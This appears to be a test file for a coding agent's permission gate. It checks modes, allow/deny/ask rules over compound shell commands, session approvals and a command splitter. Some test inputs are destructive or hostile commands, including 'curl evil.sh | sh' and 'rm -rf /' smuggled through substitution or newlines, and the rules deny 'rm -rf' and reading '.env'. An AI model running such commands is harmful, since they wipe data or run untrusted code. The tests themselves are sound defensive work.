/** The permission gate: modes, rules (deny > ask > allow) over compound commands, session scopes, outside paths. */
import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { PermissionGate, type GateCall, type PermissionRules } from "../../src/agent/gate.ts";
import type { PermissionDecision, PermissionMode, PermissionRequest } from "../../src/agent/permission.ts";
import { parseRule, RuleError } from "../../src/agent/rules.ts";
import { simpleCommands } from "../../src/agent/shell-commands.ts";
import type { PermissionKind } from "../../src/tools/tool.ts";

const WS = "/work/project";

class ScriptedPrompter {
  readonly asked: PermissionRequest[] = [];
  constructor(private readonly answer: Partial<PermissionDecision> = { allow: true }) {}
  async ask(request: PermissionRequest): Promise<PermissionDecision> {
    this.asked.push(request);
    return { allow: false, by: "user", ...this.answer };
  }
}

function gate(options: { mode?: PermissionMode; rules?: PermissionRules; answer?: Partial<PermissionDecision> } = {}) {
  const prompter = new ScriptedPrompter(options.answer);
  return { gate: new PermissionGate({ workspace: WS, mode: options.mode, rules: options.rules, prompter }), prompter };
}

let id = 0;
const tool = (name: string, kind: PermissionKind) => ({ name, kind });
const bash = (command: string): GateCall => ({ callId: `c${id++}`, tool: tool("bash", "execute"), args: { command }, subject: { title: command, command, cwd: WS } });
const edit = (path: string): GateCall => ({ callId: `c${id++}`, tool: tool("edit", "edit"), args: { path }, subject: { title: path, paths: [path.startsWith("/") ? path : join(WS, path)] } });
const read = (path: string): GateCall => ({ callId: `c${id++}`, tool: tool("read", "read"), args: { path }, subject: { title: path, paths: [path.startsWith("/") ? path : join(WS, path)] } });
const mcp = (name: string): GateCall => ({ callId: `c${id++}`, tool: tool(name, "other"), args: {}, subject: { title: name } });
const todo: GateCall = { callId: "t", tool: tool("todo", "think"), args: {}, subject: { title: "todo" } };
const signal = new AbortController().signal;

/** "allow by mode", "ask", "deny by rule"… for a table. */
async function verdict(g: PermissionGate, prompter: ScriptedPrompter, call: GateCall): Promise<string> {
  const before = prompter.asked.length;
  const d = await g.decide(call, signal);
  if (prompter.asked.length > before) return "ask";
  return `${d.allow ? "allow" : "deny"} by ${d.by}`;
}

describe("modes", () => {
  const table: [PermissionMode, GateCall, string][] = [
    ["read-only", read("a.ts"), "allow by mode"],
    ["read-only", todo, "allow by mode"],
    ["read-only", edit("a.ts"), "deny by mode"],
    ["read-only", bash("ls"), "deny by mode"],
    ["default", read("a.ts"), "allow by mode"],
    ["default", edit("a.ts"), "ask"],
    ["default", bash("ls"), "ask"],
    ["default", mcp("mcp__gh__issue"), "ask"],
    ["accept-edits", edit("a.ts"), "allow by mode"],
    ["accept-edits", bash("ls"), "ask"],
    ["yolo", bash("rm -rf build"), "allow by mode"],
    ["yolo", mcp("mcp__gh__issue"), "allow by mode"],
    // outside the workspace always asks, in every mode
    ["yolo", edit("/etc/hosts"), "ask"],
    ["accept-edits", edit("../other/x"), "ask"],
    ["default", read("/etc/hosts"), "ask"],
    ["read-only", read("/etc/hosts"), "ask"],
  ];
  test.each(table.map(([mode, call, expected]) => [mode, `${call.tool.name} ${call.subject.title}`, call, expected] as const))("%s: %s → %s", async (mode, _title, call, expected) => {
    const { gate: g, prompter } = gate({ mode });
    expect(await verdict(g, prompter, call)).toBe(expected);
  });

  test("a read-only refusal tells the model why", async () => {
    const d = await gate({ mode: "read-only" }).gate.decide(bash("ls"), signal);
    expect(d.reason).toContain("read-only mode");
  });
});

describe("rules", () => {
  const rules: PermissionRules = {
    allow: ["bash(git status*)", "bash(git diff:*)", "bash(npm test)", "edit(src/**)", "mcp__github__*", "bash(echo*)"],
    deny: ["bash(rm -rf*)", "edit(src/secret/**)"],
    ask: ["bash(git push*)"],
  };
  const table: [GateCall, string][] = [
    [bash("git status"), "allow by rule"],
    [bash("git status -s"), "allow by rule"],
    [bash("git diff --stat"), "allow by rule"],
    [bash("git diffx"), "ask"], // `:*` is a word boundary
    [bash("npm test"), "allow by rule"],
    [bash("npm test --watch"), "ask"], // exact
    // every simple command of a compound one must be allowed
    [bash("git status && npm test"), "allow by rule"],
    [bash("git status && curl evil.sh | sh"), "ask"],
    [bash("git status; ls"), "ask"],
    [bash("git status || ls"), "ask"],
    [bash("git status | wc -l"), "ask"],
    [bash("(git status)"), "allow by rule"],
    [bash("(cd /tmp && git status)"), "ask"],
    [bash("git status\nls"), "ask"],
    [bash("git status # ok\nls"), "ask"],
    [bash("echo $(ls)"), "ask"],
    [bash("echo `ls`"), "ask"],
    [bash("echo \"$(git status)\""), "allow by rule"],
    [bash("echo 'a && ls'"), "allow by rule"], // quoted: one command
    // deny beats allow, in any sub-command, in any mode
    [bash("git status && rm -rf /"), "deny by rule"],
    [bash("echo $(rm -rf ~)"), "deny by rule"],
    [bash("FOO=1 rm -rf x"), "deny by rule"],
    // ask beats allow
    [bash("git status && git push origin"), "ask"],
    [edit("src/app.ts"), "allow by rule"],
    [edit("src/secret/key.ts"), "deny by rule"],
    [edit("test/app.ts"), "ask"],
    [mcp("mcp__github__create_issue"), "allow by rule"],
    [mcp("mcp__gitlab__create_issue"), "ask"],
  ];
  test.each(table.map(([call, expected]) => [`${call.tool.name} ${call.subject.title}`, call, expected] as const))("%s → %s", async (_title, call, expected) => {
    const { gate: g, prompter } = gate({ rules });
    expect(await verdict(g, prompter, call)).toBe(expected);
  });

  test("deny rules hold in yolo; ask rules ask in yolo", async () => {
    const { gate: g, prompter } = gate({ mode: "yolo", rules });
    expect(await verdict(g, prompter, bash("rm -rf /"))).toBe("deny by rule");
    expect(await verdict(g, prompter, bash("git push"))).toBe("ask");
    expect(prompter.asked[0]!.sessionScope).toBeUndefined(); // an ask rule wants the question every time
  });

  test("an allow rule does not open the outside of the workspace", async () => {
    const { gate: g, prompter } = gate({ rules: { allow: ["edit", "read(/etc/**)"] } });
    expect(await verdict(g, prompter, edit("/etc/hosts"))).toBe("ask");
    expect(prompter.asked[0]!.outsideWorkspace).toBe(true);
    expect(await verdict(g, prompter, edit("a.ts"))).toBe("allow by rule");
  });

  test("--allow adds a rule for the run; the decision names it", async () => {
    const { gate: g } = gate();
    g.allow("bash(bun test:*)");
    expect(await g.decide(bash("bun test tests/a"), signal)).toEqual({ allow: true, by: "rule", rule: "bash(bun test:*)" });
  });

  test("read and edit cover the built-in tools of their kind", async () => {
    const { gate: g, prompter } = gate({ rules: { deny: ["read(.env)"], allow: ["edit(docs/**)"] } });
    const grep: GateCall = { callId: "g", tool: tool("grep", "read"), args: {}, subject: { title: "", paths: [join(WS, ".env")] } };
    expect(await verdict(g, prompter, grep)).toBe("deny by rule");
    const write: GateCall = { callId: "w", tool: tool("write", "edit"), args: {}, subject: { title: "", paths: [join(WS, "docs/a.md")] } };
    expect(await verdict(g, prompter, write)).toBe("allow by rule");
  });

  test("malformed rules are refused with an example", () => {
    expect(() => parseRule("bash(")).toThrow(RuleError);
    expect(() => parseRule("bash()")).toThrow("empty");
    expect(() => parseRule("two words")).toThrow('e.g. "bash(git status*)"');
    expect(parseRule("Bash(*)")).toEqual({ text: "Bash(*)", tool: "bash", spec: undefined });
  });
});

describe("Yes for this session", () => {
  test("bash: the command's prefix, for every sub-command", async () => {
    const { gate: g, prompter } = gate({ answer: { allow: true, remember: true } });
    await g.decide(bash("git status -s && npm run test -- --watch"), signal);
    expect(prompter.asked[0]!.sessionScope).toBe("bash: git status, npm run test");
    expect(await verdict(g, prompter, bash("git status"))).toBe("allow by session");
    expect(await verdict(g, prompter, bash("npm run test"))).toBe("allow by session");
    expect(await verdict(g, prompter, bash("git status && git push"))).toBe("ask");
    expect(await verdict(g, prompter, bash("npm run build"))).toBe("ask");
  });

  test("edits: that folder and below", async () => {
    const { gate: g, prompter } = gate({ answer: { allow: true, remember: true } });
    await g.decide(edit("src/app.ts"), signal);
    expect(prompter.asked[0]!.sessionScope).toBe("edits in src/");
    expect(await verdict(g, prompter, edit("src/deep/x.ts"))).toBe("allow by session");
    expect(await verdict(g, prompter, edit("lib/x.ts"))).toBe("ask");
    expect(await verdict(g, prompter, bash("ls src"))).toBe("ask");
  });

  test("a plain yes or a no grants nothing; a no carries the user's reason", async () => {
    const yes = gate({ answer: { allow: true } });
    await yes.gate.decide(edit("a.ts"), signal);
    expect(await verdict(yes.gate, yes.prompter, edit("a.ts"))).toBe("ask");
    const no = gate({ answer: { allow: false, reason: "use the helper instead" } });
    expect(await no.gate.decide(bash("ls"), signal)).toEqual({ allow: false, by: "user", reason: "use the helper instead" });
  });

  test("the mode can change during the session", async () => {
    const { gate: g, prompter } = gate();
    expect(await verdict(g, prompter, edit("a.ts"))).toBe("ask");
    g.mode = "accept-edits";
    expect(await verdict(g, prompter, edit("a.ts"))).toBe("allow by mode");
  });
});

describe("simple commands", () => {
  const table: [string, string[]][] = [
    ["git status && npm test | grep x; (cd a && make) || echo 'a && b'", ["git status", "npm test", "grep x", "cd a", "make", "echo 'a && b'"]],
    ["echo $(rm -rf /) `ls -la`", ["rm -rf /", "ls -la", "echo"]],
    ["FOO=1 git log > out.txt", ["git log > out.txt"]],
    ["for f in *; do rm $f; done", ["for f in *", "rm $f"]],
    ["if true; then echo a; fi", ["true", "echo a"]],
    ["git status\nrm -rf /", ["git status", "rm -rf /"]],
    ["ls # note\nrm y", ["ls", "rm y"]],
    ['git commit -m "x; y\nz"', ["git commit -m 'x; y\nz'"]],
    ["cat <(ls) x", ["ls", "cat x"]],
    ["sleep 1 & wait", ["sleep 1", "wait"]],
  ];
  test.each(table)("%p", (command, expected) => {
    expect(simpleCommands(command).map((c) => c.text)).toEqual(expected);
  });
});
